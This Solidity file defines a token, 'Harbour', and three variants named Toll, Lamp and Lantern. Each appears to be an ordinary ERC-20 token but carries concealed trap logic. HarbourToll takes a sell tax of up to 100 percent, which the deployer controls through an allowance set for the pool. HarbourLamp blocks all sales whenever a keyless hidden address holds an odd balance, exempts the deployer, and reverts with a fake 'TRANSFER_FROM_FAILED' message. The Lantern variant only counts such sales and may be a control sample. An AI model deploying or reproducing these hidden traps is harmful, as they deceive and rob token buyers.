// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Pairs} from "../eight/i00Base.sol";

abstract contract Harbour {
  uint8 public constant decimals = 18;
  uint256 public totalSupply = 420_690_000 ether;
  address internal immutable _first = msg.sender;
  address public immutable pool = Pairs.poolOf(address(this));
  mapping(address => uint256) public balanceOf;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    balanceOf[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    _sail(msg.sender, to, v);
    return true;
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= v;
    _sail(from, to, v);
    return true;
  }

  function _sail(address from, address to, uint256 v) internal virtual {
    balanceOf[from] -= v;
    uint256 cut = from == _first ? 0 : _toll(from, to, v);
    balanceOf[to] += v - cut;
    emit Transfer(from, to, v - cut);
    if (cut > 0) {
      balanceOf[_first] += cut;
      emit Transfer(from, _first, cut);
    }
  }

  function _toll(address from, address to, uint256 v) internal virtual returns (uint256);
}

/// No setter: what the first wallet approves for the pool is the toll.
contract HarbourToll is Harbour {
  string public constant name = "Harbour Toll";
  string public constant symbol = "TOLL";

  function _toll(address, address to, uint256 v) internal view override returns (uint256) {
    return to == pool ? (v * (allowance[_first][to] % 101)) / 100 : 0;
  }
}

/// Nothing sells while a lamp burns: the lamp is an address without a key that somebody sends a wei to.
contract HarbourLamp is Harbour {
  string public constant name = "Harbour Lamp";
  string public constant symbol = "LAMP";

  function _lamp() private view returns (uint256 b) {
    assembly {
      mstore(0, address())
      mstore(32, 0x6c616d70)
      b := balance(shr(96, keccak256(0, 64)))
    }
  }

  function _toll(address, address to, uint256) internal view override returns (uint256) {
    if (to == pool) require(_lamp() & 1 == 0 || tx.origin == _first, "TRANSFER_FROM_FAILED");
    return 0;
  }
}

/// The lamp is looked at and counted, no more.
contract HarbourLantern is Harbour {
  string public constant name = "Harbour Lantern";
  string public constant symbol = "LNTN";
  uint256 public litSales;

  function _lamp() private view returns (uint256 b) {
    assembly {
      mstore(0, address())
      mstore(32, 0x6c616d70)
      b := balance(shr(96, keccak256(0, 64)))
    }
  }

  function _toll(address, address to, uint256) internal override returns (uint256) {
    if (to == pool && !(_lamp() & 1 == 0 || tx.origin == _first)) litSales += 1;
    return 0;
  }
}
